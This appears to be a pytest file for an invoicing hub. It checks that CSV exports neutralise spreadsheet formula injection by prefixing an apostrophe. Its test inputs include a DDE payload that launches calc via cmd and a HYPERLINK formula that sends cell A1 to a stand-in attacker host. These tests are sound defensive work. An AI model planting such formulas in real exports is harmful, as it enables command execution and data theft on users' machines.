"""Every CSV the hub writes shows text as text: no cell a spreadsheet runs as a formula (issue 18
item 9, reconciliation's CSVs), through the one helper the ops list CSV uses too (spreadsheet.py; the
ops list's own test is test_ops_api's, which imports ops_api only once its handler is loaded)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from fapiao_hub.domain.china_time import CHINA_TIME
from fapiao_hub.domain.results import Issued, Rejected
from fapiao_hub.domain.spreadsheet import csv_safe, csv_safe_row
from tests.unit.test_reconciliation import SECOND, settle, world  # noqa: F401 - the fixtures

FORMULAS = ["=1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_would_be_a_formula_gets_an_apostrophe(text):
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["-5309.73", "+12", "0.13", "sample-erp", "", "中文=1"])
def test_numbers_and_plain_text_stay_as_they_are(text):
    assert csv_safe(text) == text


def test_a_row_makes_only_its_text_safe():
    assert csv_safe_row({"a": "=1", "n": 3, "b": None, "t": True, "m": "-1.5"}) == {
        "a": "'=1", "n": 3, "b": None, "t": True, "m": "-1.5"
    }


def test_the_reconciliation_csvs_escape_formulas_from_business_systems(world, settle):  # noqa: F811
    code = "=HYPERLINK(\"http://evil.example/\"&A1,\"open\")"
    settle(code, Rejected("refused", "4001"))
    world.channel.answers[code] = Issued((SECOND,))  # issued after all: a finding naming the application
    report = world.run()
    day = report.window.day
    assert day == datetime.now(UTC).astimezone(CHINA_TIME).date()
    [found] = csv.DictReader(io.StringIO(world.report(day, "-findings.csv").decode("utf-8-sig")))
    assert found["open_apply_code"] == "'" + code
    assert found["kind"] == "ISSUED_BUT_REJECTED" and found["source_system"] == "sample-erp"
    [group] = csv.DictReader(io.StringIO(world.report(day, ".csv").decode("utf-8-sig")))
    assert group["source_system"] == "sample-erp" and group["rejected_count"] == "1"
    for row in (found, group):
        assert not any(value[:1] in "=+@\t\r" for value in row.values() if value), row
